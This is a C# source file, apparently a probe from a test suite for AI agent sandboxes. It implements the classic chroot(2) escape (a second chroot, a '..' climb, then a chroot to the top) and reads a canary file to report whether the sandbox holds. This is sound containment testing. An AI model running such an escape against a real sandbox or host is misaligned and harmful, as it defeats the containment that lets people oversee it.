namespace AgentSandbox.Guest.Probes;

/// <summary>The classic way out of chroot(2): a second chroot moves the root below the working directory, and ".." then has no end to stop at.</summary>
internal static class ChrootProbe
{
    /// <summary>Arguments: path of the canary; on the host also the folder to work in. This process is lost to its root afterwards and ends.</summary>
    public static ProbeReport Reenter(string[] args)
    {
        string? folder = SandboxFolder.Writable(args.Length > 1 ? args[1] : null).FirstOrDefault();
        if (folder is null)
        {
            return new ProbeReport(ProbeReport.Closed, 30, false, "No folder could be made, so the way could not be tried.");
        }

        // The working directory must be above the new root, and reachable afterwards.
        string inner = SandboxFolder.NewName(folder);
        Kernel.CallPath("chdir", folder);
        bool control = Kernel.CallPath("mkdirat", inner, 0x1C0).Ok;
        KernelResult moved = Kernel.CallPath("chroot", inner);
        if (!moved.Ok)
        {
            Kernel.CallPath("rmdir", inner);
            return new ProbeReport(ProbeReport.Closed, moved.Errno, control, "chroot(2)");
        }

        // Relative, and while the working directory is still in the folder: the new root has no path to itself.
        Kernel.CallPath("rmdir", inner[(folder.Length + 1)..]);
        for (int i = 0; i < 64; i++)
        {
            Kernel.CallPath("chdir", "..");
        }

        KernelResult out_ = Kernel.CallPath("chroot", ".");
        return out_.Ok
            ? FileSystemProbes.ReadSecret(args[0], control) with { Detail = $"chroot(2) again, '..' to the top, read {args[0]}" }
            : new ProbeReport(ProbeReport.Closed, out_.Errno, control, "chroot(2) to the top");
    }
}
